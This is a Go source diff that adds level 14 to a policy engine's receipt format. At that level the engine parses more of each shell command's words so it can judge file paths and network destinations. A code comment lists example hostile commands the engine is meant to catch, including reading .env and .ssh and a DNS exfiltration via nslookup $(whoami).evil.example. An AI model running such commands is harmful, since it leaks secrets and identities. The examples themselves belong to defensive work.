@@ -82,6 +82,15 @@ import (
 //     it waits for every voter: below this level such a command is
 //     judged as before, and a log written before the raise replays to
 //     the decisions it recorded.
+//   - ReceiptFormatShellWords (14): the policy engine reads more of a
+//     shell command's words (policy.FeatureShellWords): paths relative to
+//     the working directory (cat .env, tar cz .ssh) are held to the
+//     protected paths as absolute ones were, and a network tool's
+//     destination built at run time is judged by what is known of it
+//     (nslookup $(whoami).evil.example reaches evil.example; H=x.example;
+//     nc $H 80 reaches x.example; a host made wholly by a command
+//     substitution is outside every allow-list). Like 13 it changes what
+//     is decided and waits for every voter.
 //
 // The level only goes up. Evolve reads every form whatever the level.
 //
@@ -90,7 +99,7 @@ import (
 // decide how a receipt is written, not what is decided, and both forms
 // fold to the same state (a permit's recorded facts are what the policy
 // in force gives at decide time; a source descriptor reads the same
-// either way). A level that changes a decision (10, 13) changes it in
+// either way). A level that changes a decision (10, 13, 14) changes it in
 // the receipt, which is what a replay folds, so the stream still carries
 // everything the digest holds.
 // Recording the raise as a receipt would put a kind into the stream that
@@ -137,9 +146,12 @@ const (
 	// ReceiptFormatShellHosts (13) judges shell commands with
 	// policy.FeatureShellHosts; below it they are judged as before.
 	ReceiptFormatShellHosts uint64 = 13
+	// ReceiptFormatShellWords (14) judges shell commands with
+	// policy.FeatureShellWords as well; below it they are judged as at 13.
+	ReceiptFormatShellWords uint64 = 14
 	// MaxReceiptFormat is the highest level this build writes: what its
 	// status reports as receipt_format.
-	MaxReceiptFormat = ReceiptFormatShellHosts
+	MaxReceiptFormat = ReceiptFormatShellWords
 )
 
 // judgeFeatures are the policy engine's features the level in force
@@ -148,6 +160,9 @@ func (s *State) judgeFeatures() policy.Features {
 	var f policy.Features
 	if s.ReceiptFormat() >= ReceiptFormatShellHosts {
 		f |= policy.FeatureShellHosts
+	}
+	if s.ReceiptFormat() >= ReceiptFormatShellWords {
+		f |= policy.FeatureShellWords
 	}
 	return f
 }
